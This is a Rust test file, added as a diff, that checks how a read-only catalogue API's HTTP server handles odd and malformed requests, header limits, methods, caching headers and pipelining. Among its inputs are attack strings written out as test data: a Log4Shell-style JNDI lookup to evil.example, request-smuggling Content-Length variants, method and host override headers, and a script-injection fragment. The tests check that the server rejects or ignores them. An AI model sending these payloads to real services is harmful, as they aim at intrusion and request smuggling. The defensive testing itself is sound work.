@@ -1,0 +1,424 @@
+//! Methods, headers and framing: what a request may look like on the wire.
+
+use pinakes_format::entity::CATALOG;
+
+use crate::{
+    client::{Connection, Response, error_body, request},
+    server::{Server, Snapshots},
+};
+
+const ALIVE: &str = r#"{"status":"ok"}"#;
+const TOO_LARGE: &str = "Request header fields too large";
+const METHODS: &str = "GET, HEAD, OPTIONS";
+const AUTHOR: &str = "/authors/HX_A5900000001";
+const MERGED: &str = "/authors/HX_A5900009002";
+
+/// What becomes of a connection after a reply.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum After {
+    Stays,
+    Closes,
+}
+use After::{Closes, Stays};
+
+/// Heads of `GET /health` that are answered as if there were nothing odd about them.
+const ALIVE_HEADS: &[(&str, After)] = &[
+    ("GET /health HTTP/1.1\r\nHost: x\r\n\r\n", Stays),
+    ("GET /health/ HTTP/1.1\r\nHost: x\r\n\r\n", Stays),
+    ("GET /health?a=%zz HTTP/1.1\r\nHost: x\r\n\r\n", Stays),
+    ("GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", Closes),
+    ("GET /health HTTP/1.0\r\n\r\n", Closes),
+    ("GET /health HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\n\r\n", Stays),
+    ("GET http://evil.example/health HTTP/1.1\r\nHost: x\r\n\r\n", Stays),
+    ("GET /health HTTP/1.1\nHost: x\n\n", Stays),
+    ("GET /health HTTP/1.1\r\nhOsT: x\r\nCONNECTION: CLOSE\r\n\r\n", Closes),
+    ("\r\nGET /health HTTP/1.1\r\nHost: x\r\n\r\n", Stays),
+    ("GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n", Stays),
+    ("GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 0\r\n\r\n", Stays),
+    // A body is neither wanted nor waited for.
+    ("GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 1073741824\r\n\r\n", Closes),
+    ("GET /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", Closes),
+    ("GET /health HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\n\r\n", Stays),
+    ("GET /health HTTP/1.1\r\nHost: x\r\nExpect: x\r\n\r\n", Stays),
+    // Nothing else is spoken here.
+    (
+        "GET /health HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\
+         HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
+        Stays,
+    ),
+    (
+        "GET /health HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
+         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
+        Stays,
+    ),
+];
+
+/// What the HTTP layer refuses: a bare 400, and the connection ends.
+const BROKEN: &[&[u8]] = &[
+    b"GET /authors/HX_A1\0 HTTP/1.1\r\nHost: x\r\n\r\n",
+    b"GET /authors/HX_A1\xff HTTP/1.1\r\nHost: x\r\n\r\n",
+    b"GET /authors/HX_A1\"><script> HTTP/1.1\r\nHost: x\r\n\r\n",
+    b"GET /authors/HX_A1 HX_A2 HTTP/1.1\r\nHost: x\r\n\r\n",
+    b"GET authors HTTP/1.1 x\r\nHost: x\r\n\r\n",
+    b"GET  HTTP/1.1\r\nHost: x\r\n\r\n",
+    b"GET /health\r\n\r\n",
+    b"GET /health HTTP/2.0\r\nHost: x\r\n\r\n",
+    b"GET /health HTTP/1.2\r\nHost: x\r\n\r\n",
+    b"GET /health HTTX/1.1\r\nHost: x\r\n\r\n",
+    b"G\x01T /health HTTP/1.1\r\nHost: x\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nX-A: a\r\n b\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost : x\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nX-A: a\0b\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nX\0A: a\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nUser-Agent: a\rb\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nUser-Agent: \x1b[31m\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nnonsense\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 1\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: +1\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 18446744073709551616\r\n\r\n",
+    b"GET /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n",
+    // The hello of TLS.
+    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\x00\x00\x00\x00\x00\x00\x00\x00\r\n\r\n",
+];
+
+/// Headers that change nothing about the reply to GET of an author.
+const IGNORED: &[&str] = &[
+    "Host-Override: evil",
+    "X-HTTP-Method-Override: DELETE",
+    "X-Method-Override: POST",
+    "X-Original-URL: /nope",
+    "X-Rewrite-URL: /nope",
+    "X-Forwarded-Host: evil.example",
+    "X-Forwarded-Proto: gopher",
+    "Forwarded: host=evil.example",
+    "Range: bytes=0-0",
+    "If-Range: \"x\"",
+    "If-Match: \"x\"",
+    "If-Modified-Since: Sat, 01 Jan 2050 00:00:00 GMT",
+    "If-Unmodified-Since: Sat, 01 Jan 2000 00:00:00 GMT",
+    "If-None-Match: ",
+    "If-None-Match: \"another\"",
+    "Accept: text/html",
+    "Accept: image/png;q=0",
+    "Accept: */*;q=nonsense",
+    "Accept-Charset: utf-16",
+    "Accept-Language: de",
+    "Cookie: a=b",
+    "Authorization: Basic YTpi",
+    "Content-Type: text/xml",
+    "Origin: https://evil.example",
+    "Referer: https://evil.example/",
+    "TE: trailers",
+    "User-Agent: ${jndi:ldap://evil.example}",
+];
+
+#[track_caller]
+fn check_after(connection: &mut Connection, after: After, what: &str) {
+    match after {
+        Closes => assert!(connection.is_closed(), "{what}"),
+        Stays => assert_eq!(connection.get("/health").text(), ALIVE, "{what}"),
+    }
+}
+
+#[track_caller]
+fn check_error(response: &Response, status: u16, message: &str, what: &str) {
+    let expected = error_body(status, message);
+    assert_eq!((response.status, response.text()), (status, expected.as_str()), "{what}");
+    assert_eq!(response.header("content-type"), Some("application/json"), "{what}");
+}
+
+#[test]
+fn a_head_may_be_odd_and_a_broken_one_is_refused_bare() {
+    let snapshots = Snapshots::of_sample();
+    let server = Server::of_snapshots(&snapshots);
+    for (head, after) in ALIVE_HEADS {
+        let mut connection = server.connect();
+        connection.send(head.as_bytes()).unwrap();
+        let response = connection.receive().unwrap();
+        assert_eq!((response.status, response.text()), (200, ALIVE), "{head}");
+        let version = if head.contains("HTTP/1.0") { "HTTP/1.0" } else { "HTTP/1.1" };
+        assert_eq!(response.version, version, "{head}");
+        check_after(&mut connection, *after, head);
+    }
+    for head in BROKEN {
+        let what = head.escape_ascii().to_string();
+        let mut connection = server.connect();
+        connection.send(head).unwrap();
+        let response = connection.receive().unwrap_or_else(|error| panic!("{what}: {error}"));
+        assert_eq!((response.status, response.text()), (400, ""), "{what}");
+        assert_eq!(response.header("connection"), Some("close"), "{what}");
+        assert!(connection.is_closed(), "{what}");
+    }
+    // HTTP/2 in clear is not spoken, and gets no word.
+    let mut connection = server.connect();
+    connection.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").unwrap();
+    assert!(connection.is_closed());
+    // A value may be any bytes but those above.
+    let mut connection = server.connect();
+    connection.send(b"GET /health HTTP/1.1\r\nHost: x\r\nX-A: \xff\xfe\r\n\r\n").unwrap();
+    assert_eq!(connection.receive().unwrap().text(), ALIVE);
+    server.end(&[]);
+}
+
+#[test]
+fn headers_are_read_up_to_64_and_16_kib() {
+    let snapshots = Snapshots::of_sample();
+    let server = Server::of_snapshots(&snapshots);
+    // One more is the client's Host.
+    let many = |count: usize| (1..count).map(|at| format!("X-{at}: y")).collect::<Vec<_>>();
+    let long = |bytes: usize| vec![format!("X: {}", "y".repeat(bytes))];
+    for (headers, status) in [
+        (many(64), 200),
+        (many(65), 431),
+        (many(101), 431),
+        (long(8 << 10), 200),
+        (long(15 << 10), 200),
+        (long(16 << 10), 431),
+        (long(64 << 10), 431),
+    ] {
+        let what = format!("{} headers, {} bytes", headers.len(), headers[0].len());
+        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
+        for target in ["/health", "/authors", AUTHOR] {
+            let response = server.connect().request("GET", target, &headers);
+            assert_eq!(response.status, status, "{target} with {what}");
+            if status == 431 {
+                check_error(&response, 431, TOO_LARGE, &what);
+            }
+        }
+    }
+    // Past what is read at all, the HTTP layer answers and closes; its answer may be lost with the
+    // rest of the request.
+    for head in [
+        request("GET", "/health", &[&format!("X: {}", "y".repeat(380_000))]),
+        request("GET", "/health", &[&format!("X: {}", "y".repeat(500_000))]),
+        request("GET", "/health", &["X: y"; 300]),
+        request("GET", &format!("/{}", "y".repeat(500_000)), &[]),
+    ] {
+        let mut connection = server.connect();
+        let received = connection.send(head.as_bytes()).and_then(|()| connection.receive());
+        if let Ok(response) = received {
+            assert!(matches!(response.status, 431 | 414), "{response:?}");
+            assert!(connection.is_closed());
+        }
+    }
+    assert_eq!(server.get("/health").text(), ALIVE);
+    server.end(&[]);
+}
+
+#[test]
+fn headers_that_mean_nothing_here_change_nothing() {
+    let snapshots = Snapshots::of_sample();
+    let server = Server::of_snapshots(&snapshots);
+    let mut connection = server.connect();
+    let plain = connection.get(AUTHOR);
+    let ranges = format!("Range: bytes={}", vec!["0-0"; 1_000].join(","));
+    let agent = format!("User-Agent: {}", "a".repeat(8 << 10));
+    for header in IGNORED.iter().copied().chain([ranges.as_str(), agent.as_str()]) {
+        let response = connection.request("GET", AUTHOR, &[header]);
+        assert_eq!(response.status, 200, "{header}");
+        assert_eq!(response.body, plain.body, "{header}");
+        assert_eq!(response.lasting_headers(), plain.lasting_headers(), "{header}");
+    }
+    // Whatever a client calls this service, it is not told it back.
+    for target in [AUTHOR, MERGED, "/nope", "/authors?page=0", "/"] {
+        for host in ["evil.example", "evil.example:99", "[::1]"] {
+            let raw = format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n");
+            connection.send(raw.as_bytes()).unwrap();
+            let response = connection.receive().unwrap();
+            assert!(!format!("{:?}{}", response.headers, response.text()).contains(host));
+        }
+    }
+    server.end(&[]);
+}
+
+#[test]
+fn what_is_read_may_be_got_and_asked_about_and_nothing_else() {
+    let snapshots = Snapshots::of_sample();
+    let server = Server::of_snapshots(&snapshots);
+    let lists = CATALOG.iter().map(|facts| format!("/{}", facts.route));
+    let others =
+        ["/", "/health", "/ready", AUTHOR, MERGED, "/authors/A1", "/domains/9", "/authors/"];
+    let targets: Vec<String> = lists.chain(others.map(str::to_owned)).collect();
+    let refused =
+        ["POST", "PUT", "PATCH", "DELETE", "TRACE", "FOO", "get", "Get", "PROPFIND", "PURGE"];
+    for target in &targets {
+        let mut connection = server.connect();
+        for method in refused {
+            let what = format!("{method} {target}");
+            let response = connection.request(method, target, &["X-Secret: echoed"]);
+            check_error(&response, 405, "Method Not Allowed", &what);
+            assert_eq!(response.header("allow"), Some(METHODS), "{what}");
+            assert!(!format!("{response:?}").contains("echoed"), "{what}");
+        }
+        let overridden = ["X-HTTP-Method-Override: GET", "Content-Length: 2"];
+        let raw = format!("{}{{}}", request("POST", target, &overridden));
+        connection.send(raw.as_bytes()).unwrap();
+        check_error(&connection.receive().unwrap(), 405, "Method Not Allowed", target);
+
+        let mut connection = server.connect();
+        let response = connection.request("OPTIONS", target, &["Origin: https://example.org"]);
+        assert_eq!(response.status, 204, "{target}");
+        assert_eq!(response.header("allow"), Some(METHODS), "{target}");
+        assert_eq!(response.header("access-control-allow-methods"), Some(METHODS), "{target}");
+        assert_eq!(response.header("access-control-allow-origin"), Some("*"), "{target}");
+        assert_eq!(response.header("content-type"), None, "{target}");
+        check_after(&mut connection, Stays, target);
+
+        let got = connection.get(target);
+        crate::paths::check_head(&mut connection, target, &got);
+    }
+    for method in refused {
+        let response = server.connect().request(method, "/nope", &[]);
+        check_error(&response, 404, &format!("Cannot {method} /nope"), method);
+    }
+    server.end(&[]);
+}
+
+/// A method, a target, headers, the status, and what may be kept of the reply.
+type Kind<'a> = (&'a str, &'a str, &'a [&'a str], u16, Option<&'a str>);
+
+/// Every kind of reply.
+const KINDS: &[Kind<'_>] = &[
+    ("GET", "/authors", &[], 200, Some("public, no-cache")),
+    ("GET", "/references/institution-types", &[], 200, Some("public, no-cache")),
+    ("GET", AUTHOR, &[], 200, Some("public, no-cache")),
+    ("GET", "/domains/3", &[], 200, Some("public, no-cache")),
+    ("GET", AUTHOR, &["If-None-Match: *"], 304, Some("public, no-cache")),
+    ("GET", "/authors", &["If-None-Match: *"], 304, Some("public, no-cache")),
+    ("GET", "/", &[], 200, None),
+    ("GET", "/health", &[], 200, None),
+    ("GET", "/ready", &[], 200, None),
+    ("OPTIONS", AUTHOR, &[], 204, None),
+    ("GET", MERGED, &[], 301, Some("no-store")),
+    ("GET", "/authors?page=0", &[], 400, Some("no-store")),
+    ("GET", "/authors/A1", &[], 400, Some("no-store")),
+    ("GET", "/authors/HX_A9", &[], 404, Some("no-store")),
+    ("GET", "/nope", &[], 404, Some("no-store")),
+    ("POST", "/authors", &[], 405, Some("no-store")),
+];
+
+#[test]
+fn every_kind_of_reply_has_the_headers_all_replies_have() {
+    let snapshots = Snapshots::of_sample();
+    let id = snapshots.open().manifest().id.clone();
+    let server = Server::of_snapshots(&snapshots);
+    let long = format!("/authors?a={}", "1".repeat(20_000));
+    let large = format!("X: {}", "y".repeat(20_000));
+    let (long_headers, large_headers): (&[&str], &[&str]) = (&[], &[&large]);
+    let more = [
+        ("GET", long.as_str(), long_headers, 414, Some("no-store")),
+        ("GET", AUTHOR, large_headers, 431, Some("no-store")),
+    ];
+    for (method, target, headers, status, kept) in KINDS.iter().copied().chain(more) {
+        let what = format!("{method} {:.40} {status}", target);
+        let response = server.connect().request(method, target, headers);
+        assert_eq!(response.status, status, "{what}");
+        let has_body = !matches!(status, 204 | 304);
+        let content_type = has_body.then_some("application/json");
+        assert_eq!(response.header("content-type"), content_type, "{what}");
+        assert_eq!(response.header("x-content-type-options"), Some("nosniff"), "{what}");
+        assert_eq!(response.header("access-control-allow-origin"), Some("*"), "{what}");
+        let exposed = response.header("access-control-expose-headers").unwrap();
+        for name in ["ETag", "Retry-After", "X-Snapshot-Id"] {
+            assert!(exposed.split(", ").any(|known| known == name), "{what}: {exposed}");
+        }
+        assert_eq!(response.header("x-snapshot-id"), Some(id.as_str()), "{what}");
+        if let Some(kept) = kept {
+            assert_eq!(response.header("cache-control"), Some(kept), "{what}");
+            let has_tag = kept != "no-store";
+            assert_eq!(response.header("etag").is_some(), has_tag, "{what}");
+        }
+        assert!(response.header("date").is_some(), "{what}");
+        assert_eq!(response.header("server"), None, "{what}");
+    }
+    server.end(&[]);
+}
+
+#[test]
+fn what_a_client_already_has_is_not_sent_again() {
+    let snapshots = Snapshots::of_sample();
+    let server = Server::of_snapshots(&snapshots);
+    let mut connection = server.connect();
+    for target in
+        [AUTHOR, "/authors", "/authors?page=99", "/references/institution-types", "/fields/19"]
+    {
+        let got = connection.get(target);
+        let tag = got.header("etag").unwrap();
+        let is_strong = tag.starts_with('"') && tag.ends_with('"') && tag.len() > 2;
+        assert!(is_strong, "{tag}");
+        assert_eq!(connection.get(target).header("etag"), Some(tag), "the same each time");
+        let bare = tag.trim_matches('"');
+        let padding: String = (0..700).map(|at| format!("\"other-{at}\",")).collect();
+        for (value, is_current) in [
+            (tag.to_owned(), true),
+            (format!("W/{tag}"), true),
+            ("*".to_owned(), true),
+            (format!("\"x\", {tag}, \"y\""), true),
+            (format!("\"x\",W/{tag}"), true),
+            (format!("{padding}{tag}"), true),
+            (format!("{padding}\"last\""), false),
+            (bare.to_owned(), false),
+            (format!("\"{bare}x\""), false),
+            (format!("\"{}\"", &bare[..bare.len() - 1]), false),
+            (String::new(), false),
+        ] {
+            for method in ["GET", "HEAD"] {
+                let header = format!("If-None-Match: {value}");
+                let response = connection.request(method, target, &[&header]);
+                let expected = if is_current { 304 } else { 200 };
+                assert_eq!(response.status, expected, "{method} {target} {value:.60}");
+                assert_eq!(response.header("etag"), Some(tag), "{target} {value:.60}");
+            }
+        }
+        let lines = ["If-None-Match: \"x\"", &format!("If-None-Match: {tag}")];
+        assert_eq!(connection.request("GET", target, &lines).status, 304, "{target}");
+    }
+    // A tag changes nothing where the answer would not be 200.
+    for (method, target, status) in [
+        ("GET", "/authors/HX_A9", 404),
+        ("GET", "/domains/x", 404),
+        ("GET", "/authors/A1", 400),
+        ("GET", "/authors?page=0", 400),
+        ("GET", "/authors?colour=red", 400),
+        ("GET", MERGED, 301),
+        ("GET", "/nope", 404),
+        ("POST", AUTHOR, 405),
+        ("OPTIONS", AUTHOR, 204),
+    ] {
+        let response = connection.request(method, target, &["If-None-Match: *"]);
+        assert_eq!(response.status, status, "{method} {target}");
+    }
+    server.end(&[]);
+}
+
+#[test]
+fn requests_sent_all_at_once_are_answered_in_order() {
+    let snapshots = Snapshots::of_sample();
+    let server = Server::of_snapshots(&snapshots);
+    let mut connection = server.connect();
+    // Records and lists are rendered in different places.
+    let targets: Vec<String> = (0..100)
+        .map(|at| match at % 4 {
+            0 => format!("/authors?per_page=10&page={}", at + 1),
+            1 => format!("/authors/HX_A{at}"),
+            2 => format!("/nope/{at}"),
+            _ => format!("/outputs?per_page=100&page={at}&x{at}"),
+        })
+        .collect();
+    let raw: String = targets.iter().map(|target| request("GET", target, &[])).collect();
+    connection.send(raw.as_bytes()).unwrap();
+    for (at, target) in targets.iter().enumerate() {
+        let response = connection.receive().unwrap();
+        let (status, words) = match at % 4 {
+            0 => (200, format!(r#""page":{},"per_page":10"#, at + 1)),
+            1 => (404, format!("Author with ID HX_A{at} not found")),
+            2 => (404, format!("Cannot GET /nope/{at}")),
+            _ => (400, format!(r#""parameter":"x{at}""#)),
+        };
+        assert_eq!(response.status, status, "{target}");
+        assert!(response.text().contains(&words), "{target}: {words}");
+    }
+    check_after(&mut connection, Stays, "the connection stays open");
+    server.end(&[]);
+}
